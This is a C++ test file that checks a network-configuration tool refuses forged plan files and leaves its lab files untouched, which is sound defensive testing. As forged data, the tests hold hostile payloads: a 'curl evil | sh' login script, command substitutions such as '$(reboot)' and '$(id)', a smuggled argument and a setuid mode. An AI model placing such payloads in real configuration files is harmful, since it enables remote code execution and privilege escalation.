// Hostile catalogue, issue 12 point 4: a plan file is a commitment, not a program.
// Each forged plan here carries an integrity digest recomputed with the project's own code
// (load_plan -> edit -> save_plan, or integrity_of), as any attacker can. `apply PLANFILE
// --yes` must refuse it (exit 1, the first differing step named), change no file of the
// lab's roots (byte and mode compare) and create none (etc/profile.d/x.sh stays absent).
// Real binary over the embedded lab (dir: roots, libvirt's test:/// node file), as
// apply_lab_test.cpp does.
#include <doctest/doctest.h>
#include <unistd.h>

#include <algorithm>
#include <filesystem>
#include <functional>

#include "apply_test_support.hpp"
#include "plan/plan_file.hpp"
#include "test_support.hpp"

namespace fs = std::filesystem;
using namespace mvt;
using mvt::test::read_file;
using mvt::test::run_tool_env;
using mvt::test::snapshot_tree;
using mvt::test::TempDir;
using mvt::test::Tree;
using mvt::test::write_file;

namespace {

struct Lab {
  TempDir tmp;
  fs::path lab, state, planfile;
  std::string saved;
  Lab() {
    lab = tmp.path() / "lab";
    state = tmp.path() / "state";
    planfile = tmp.path() / "plan.json";
    fs::copy(test::source_dir() / "specs" / "lab", lab, fs::copy_options::recursive);
    auto made = run_tool_env(args({"plan", "-o", planfile.string()}));
    REQUIRE(made.exit_code == 0);
    saved = read_file(planfile);
  }
  std::vector<std::string> args(std::vector<std::string> a) const {
    std::vector<std::string> out{"--state-dir", state.string()};
    out.insert(out.end(), a.begin(), a.end());
    for (const auto& s : {(test::source_dir() / "specs" / "seed.yaml").string(),
                          (lab / "seed-lab.yaml").string()}) {
      out.push_back("-f");
      out.push_back(s);
    }
    return out;
  }
  // Every file of the lab (roots and node file) with its mode.
  Tree files() const { return snapshot_tree(lab); }
  plan::Plan loaded() const {
    Diagnostics d;
    auto p = plan::load_plan(saved, "plan.json", d);
    REQUIRE(p);
    return *p;
  }
  // Writes the edited plan with a valid digest and applies it.
  test::ProcResult apply_forged(const std::function<void(plan::Plan&)>& edit) const {
    plan::Plan p = loaded();
    edit(p);
    const fs::path forged = tmp.path() / "forged.json";
    write_file(forged, plan::save_plan(p));
    Diagnostics d;
    REQUIRE_MESSAGE(plan::load_plan(read_file(forged), "forged.json", d),
                    "the forgery must pass the integrity check");
    return run_tool_env(args({"apply", "--yes", forged.string()}));
  }
};

std::size_t step_index(const plan::Plan& p, const std::string& target) {
  for (std::size_t i = 0; i < p.steps.size(); ++i)
    if (p.steps[i].target == target) return i;
  FAIL("no step " << target);
  return 0;
}

const std::string kMismatch = "plan file does not match what the spec produces: ";

// The refusal every forged plan must get: exit 1, the message, nothing written or created.
void check_refused(const Lab& lab, const Tree& before, const test::ProcResult& r,
                   const std::string& expected) {
  INFO(r.out, r.err);
  CHECK(r.exit_code == 1);
  CHECK(r.err.find(kMismatch + expected) != std::string::npos);
  CHECK(r.out.find("verified") == std::string::npos);
  CHECK(r.out.find("Applied") == std::string::npos);
  CHECK(lab.files() == before);
  CHECK_FALSE(fs::exists(lab.lab / "guest-web1" / "etc" / "profile.d"));
  CHECK_FALSE(fs::exists(lab.lab / "host" / "etc" / "profile.d"));
  CHECK_FALSE(fs::exists(lab.state / "kvm1.journal"));
}

}  // namespace

TEST_CASE("hostile: plan file - an added write-file step to etc/profile.d is refused" *
          doctest::test_suite("hostile")) {
  Lab lab;
  const Tree before = lab.files();
  auto r = lab.apply_forged([](plan::Plan& p) {
    auto evil = test::write_step("s09", "kvm1", "web1", "etc/profile.d/x.sh",
                                 "curl evil | sh\n", std::nullopt);
    evil.op.mode = 0755;
    // Before the final verify step, so that only the extra step differs... not the last.
    p.steps.insert(p.steps.begin() + 3, evil);
  });
  check_refused(lab, before, r, "step 4 (write-file guest web1 /etc/profile.d/x.sh): ");
}

TEST_CASE("hostile: plan file - an extra step at the end is refused" *
          doctest::test_suite("hostile")) {
  Lab lab;
  const Tree before = lab.files();
  auto r = lab.apply_forged([](plan::Plan& p) {
    p.steps.push_back(test::write_step("s09", "kvm1", "web1", "etc/profile.d/x.sh",
                                       "touch /tmp/pwned\n", std::nullopt));
  });
  check_refused(lab, before, r,
                "step 9 (write-file guest web1 /etc/profile.d/x.sh): not produced by the spec "
                "(9 steps in the plan file, 8 from the spec)");
}

TEST_CASE("hostile: plan file - a command substitution appended to an ifcfg content is refused" *
          doctest::test_suite("hostile")) {
  Lab lab;
  const Tree before = lab.files();
  auto r = lab.apply_forged([](plan::Plan& p) {
    p.steps[step_index(p, "guest/web1/file/ifcfg-ens9")].op.content += "X=$(touch /tmp/x)\n";
  });
  check_refused(lab, before, r,
                "step 2 (write-file guest web1 "
                "/etc/sysconfig/network-scripts/ifcfg-ens9): content differs");
}

TEST_CASE("hostile: plan file - a setuid mode 04755 is refused" *
          doctest::test_suite("hostile")) {
  Lab lab;
  const Tree before = lab.files();
  auto r = lab.apply_forged(
      [](plan::Plan& p) { p.steps[step_index(p, "guest/web1/file/ifcfg-ens9")].op.mode = 04755; });
  check_refused(lab, before, r,
                "step 2 (write-file guest web1 /etc/sysconfig/network-scripts/ifcfg-ens9): mode "
                "differs (the spec produces 420)");
}

TEST_CASE("hostile: plan file - a redirected path is refused" * doctest::test_suite("hostile")) {
  Lab lab;
  const Tree before = lab.files();
  auto r = lab.apply_forged([](plan::Plan& p) {
    p.steps[step_index(p, "guest/web1/file/ifcfg-ens9")].op.path = "etc/profile.d/x.sh";
  });
  check_refused(lab, before, r,
                "step 2 (write-file guest web1 /etc/profile.d/x.sh): path differs (the spec "
                "produces etc/sysconfig/network-scripts/ifcfg-ens9)");
}

TEST_CASE("hostile: plan file - a removed step is refused" * doctest::test_suite("hostile")) {
  Lab lab;
  const Tree before = lab.files();
  auto r = lab.apply_forged([](plan::Plan& p) {
    // Drop the eth0 rewrite (s04) and renumber, so that only its absence differs.
    p.steps.erase(p.steps.begin() + 3);
  });
  // Position 4 now holds the define step where the spec has the eth0 write.
  check_refused(lab, before, r, "step 4 (define-interface guest web1 52:54:00:5d:9c:33): ");
  const std::string last_only_missing = [&] {
    auto r2 = lab.apply_forged([](plan::Plan& p) { p.steps.pop_back(); });
    return r2.err;
  }();
  CHECK(last_only_missing.find(kMismatch + "step 8 (verify host kvm1): missing from the plan "
                                           "file (7 steps in the plan file, 8 from the spec)") !=
        std::string::npos);
  CHECK(lab.files() == before);
}

TEST_CASE("hostile: plan file - reordered steps are refused" * doctest::test_suite("hostile")) {
  Lab lab;
  const Tree before = lab.files();
  auto r = lab.apply_forged([](plan::Plan& p) {
    // Activate (cold restart) before the files are written, ids kept.
    std::swap(p.steps[1], p.steps[6]);
  });
  check_refused(lab, before, r, "step 2 (activate guest web1): id differs (the spec produces s02)");
}

TEST_CASE("hostile: plan file - a changed domain interface XML is refused" *
          doctest::test_suite("hostile")) {
  Lab lab;
  const Tree before = lab.files();
  const std::string node_before = read_file(lab.lab / "node.xml");
  auto r = lab.apply_forged([](plan::Plan& p) {
    auto& op = p.steps[step_index(p, "guest/web1/interface/ens9")].op;
    const auto at = op.interface_xml.find("mode=\"private\"");
    REQUIRE(at != std::string::npos);
    op.interface_xml.replace(at, 14, "mode=\"bridge\"");
  });
  check_refused(lab, before, r,
                "step 5 (define-interface guest web1 52:54:00:5d:9c:33): interface_xml differs");
  CHECK(read_file(lab.lab / "node.xml") == node_before);
}

TEST_CASE("hostile: plan file - a changed host is refused" * doctest::test_suite("hostile")) {
  Lab lab;
  const Tree before = lab.files();
  auto r = lab.apply_forged([](plan::Plan& p) { p.steps[0].host = "kvm2"; });
  check_refused(lab, before, r,
                "step 1 (write-file host kvm2 /etc/sysconfig/network-scripts/ifcfg-em2): host "
                "differs (the spec produces kvm1)");
}

TEST_CASE("hostile: plan file - stale beats forged, corruption is named" *
          doctest::test_suite("hostile")) {
  Lab lab;
  const fs::path eth0 = lab.lab / "guest-web1" / "etc/sysconfig/network-scripts/ifcfg-eth0";
  const std::string eth0_bytes = read_file(eth0);
  write_file(eth0, eth0_bytes + "MTU=9000\n");
  const Tree before = lab.files();
  // Live state moved AND a step was forged: the stale check comes first.
  auto r = lab.apply_forged([](plan::Plan& p) {
    p.steps[step_index(p, "guest/web1/file/ifcfg-ens9")].op.content += "X=$(id)\n";
  });
  INFO(r.err);
  CHECK(r.exit_code == 1);
  CHECK(r.err.find("stale plan: kvm1/guest/web1/file/ifcfg-eth0 changed") != std::string::npos);
  CHECK(r.err.find(kMismatch) == std::string::npos);
  CHECK(lab.files() == before);

  // An edit without a recomputed digest: corrupted, refused before any connection.
  write_file(eth0, eth0_bytes);
  std::string edited = lab.saved;
  edited.replace(edited.find("104.50.201.84"), 13, "104.50.201.85");
  write_file(lab.tmp.path() / "edited.json", edited);
  auto c = run_tool_env(lab.args({"apply", "--yes", (lab.tmp.path() / "edited.json").string()}));
  CHECK(c.exit_code == 1);
  CHECK(c.err.find("plan file is corrupted or was edited") != std::string::npos);
  CHECK(snapshot_tree(lab.lab)[("guest-web1/etc/sysconfig/network-scripts/ifcfg-eth0")].bytes ==
        eth0_bytes);
}

TEST_CASE("hostile: plan file - huge, deep or ill-typed JSON is refused cleanly" *
          doctest::test_suite("hostile")) {
  Lab lab;
  const Tree before = lab.files();
  auto refused = [&](const fs::path& f, const std::string& msg) {
    auto r = run_tool_env(lab.args({"apply", "--yes", f.string()}));
    INFO(r.out, r.err);
    CHECK(r.exit_code == 1);
    CHECK(r.err.find(msg) != std::string::npos);
    CHECK(r.err.find("internal error") == std::string::npos);
    CHECK(lab.files() == before);
  };
  // 200,000 nested arrays (a recursive dump would overflow the stack).
  const fs::path deep = lab.tmp.path() / "deep.json";
  write_file(deep, std::string(200000, '[') + std::string(200000, ']'));
  refused(deep, "JSON nested deeper than 32 levels");
  // Deep inside a well-formed plan, with a valid digest.
  auto j = plan::Json::parse(lab.saved);
  plan::Json nest = plan::Json::array();
  for (int i = 0; i < 100; ++i) nest = plan::Json::array({nest});
  j["steps"][0]["reason"] = nest;
  j["integrity"] = plan::integrity_of(j);
  const fs::path deep2 = lab.tmp.path() / "deep2.json";
  write_file(deep2, j.dump());
  refused(deep2, "JSON nested deeper than 32 levels");
  // A sparse file beyond the size bound: refused before it is read.
  const fs::path huge = lab.tmp.path() / "huge.json";
  write_file(huge, "{");
  fs::resize_file(huge, plan::kMaxPlanFileBytes + 1);
  refused(huge, "a plan file is a readable regular file of at most");
  // Not a regular file.
  refused("/dev/zero", "cannot read plan file /dev/zero");
  // Wrong types, with valid digests.
  auto typed = [&](const std::function<void(plan::Json&)>& edit, const std::string& msg) {
    auto t = plan::Json::parse(lab.saved);
    edit(t);
    t["integrity"] = plan::integrity_of(t);
    const fs::path f = lab.tmp.path() / "typed.json";
    write_file(f, t.dump(2));
    refused(f, msg);
  };
  typed([](plan::Json& t) { t["steps"][1]["operation"]["mode"] = "04755"; },
        "steps[1].operation: \"mode\" is not a file mode");
  typed([](plan::Json& t) { t["steps"][1]["operation"]["mode"] = 1ull << 40; },
        "steps[1].operation: \"mode\" is not a file mode");
  typed([](plan::Json& t) { t["steps"][1]["operation"]["content"] = 7; },
        "steps[1].operation: \"content\" is not a string");
  typed([](plan::Json& t) { t["steps"] = "all of them"; }, "missing \"steps\" array");
}

TEST_CASE("hostile: plan file - the honest plan applies and says verified" *
          doctest::test_suite("hostile")) {
  Lab lab;
  auto r = run_tool_env(lab.args({"apply", "--yes", lab.planfile.string()}));
  INFO(r.out, r.err);
  CHECK(r.exit_code == 0);
  CHECK(r.out.find("matches what the spec produces (8 steps)") != std::string::npos);
  CHECK(r.out.find("verified") != std::string::npos);
  CHECK(read_file(lab.lab / "guest-web1" / "etc/sysconfig/network-scripts/ifcfg-ens9")
            .find("104.50.201.84") != std::string::npos);
}

// Issue 15: an activation names NetworkManager connections to bring up (`nmcli connection up
// uuid U`) and a format whose commands run. A plan file cannot smuggle an argument or another
// format's commands in: each name must be a UUID and the format a registered one (the file is
// refused as invalid), and a well-formed but forged connection is a mismatch with the spec.
TEST_CASE("hostile: plan file - an activation's forged connection or format is refused" *
          doctest::test_suite("hostile")) {
  Lab lab;
  const Tree before = lab.files();
  const std::size_t act = step_index(lab.loaded(), "guest/web1/activation");
  for (const auto& [field, value] : std::vector<std::pair<std::string, std::string>>{
           {"profiles", "--version"},
           {"restore_profiles", "$(reboot)"},
           {"profiles", "5fb06bd0-0bb0-7ffb-45f1-d6edd65f3e03 x"},
           {"config_format", "sh"}}) {
    CAPTURE(field);
    plan::Plan p = lab.loaded();
    if (field == "config_format")
      p.steps[act].op.config_format = value;
    else if (field == "profiles")
      p.steps[act].op.profiles = {value};
    else
      p.steps[act].op.restore_profiles = {value};
    Diagnostics d;
    CHECK_FALSE(plan::load_plan(plan::save_plan(p), "forged.json", d));
    REQUIRE(d.has_errors());
    CHECK(d.items()[0].message.find(field == "config_format" ? "unknown config_format \"sh\""
                                                             : "not a NetworkManager connection UUID") !=
          std::string::npos);
  }
  auto r = lab.apply_forged([act](plan::Plan& p) {
    p.steps[act].op.profiles = {"5fb06bd0-0bb0-7ffb-45f1-d6edd65f3e03"};
  });
  check_refused(lab, before, r, "step " + std::to_string(act + 1) +
                                    " (activate guest web1): profiles differs");
  auto k = lab.apply_forged([act](plan::Plan& p) { p.steps[act].op.config_format = "keyfile"; });
  check_refused(lab, before, k, "step " + std::to_string(act + 1) +
                                    " (activate guest web1): config_format differs");
}
